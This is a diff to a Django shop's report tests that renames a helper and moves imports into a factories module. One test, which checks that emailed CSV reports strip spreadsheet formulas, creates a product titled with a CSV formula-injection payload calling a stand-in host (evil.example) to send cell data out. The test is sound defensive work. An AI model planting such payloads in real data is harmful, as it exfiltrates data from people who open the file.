@@ -21,8 +21,7 @@ from reports.models import ReportRun, ReportSubscription
 from reports.periods import Period, shop_today, shop_tz
 from reports.runs import execute
 from reports.tasks import send_scheduled_reports
-from tests.conftest import make_product
-from tests.test_reports_figures import place
+from tests.factories import make_product, record_order
 
 pytestmark = pytest.mark.django_db
 SearchQuery = get_model("search", "SearchQuery")
@@ -129,7 +128,7 @@ def test_the_emailed_report_csv_carries_no_formula_from_a_product_title(
     ReportSubscription.objects.create(user=merchandiser, daily=True)
     hostile = make_product('=HYPERLINK("http://evil.example/?"&A1,"Open")', "6.50", stock=30, category=category)
     yesterday = shop_today() - dt.timedelta(days=1)
-    place("Y1", dt.datetime.combine(yesterday, dt.time(12), tzinfo=shop_tz()), [(hostile, 2, "13.00")],
+    record_order("Y1", dt.datetime.combine(yesterday, dt.time(12), tzinfo=shop_tz()), [(hostile, 2, "13.00")],
           guest="guest@example.com")
 
     with django_capture_on_commit_callbacks(execute=True):
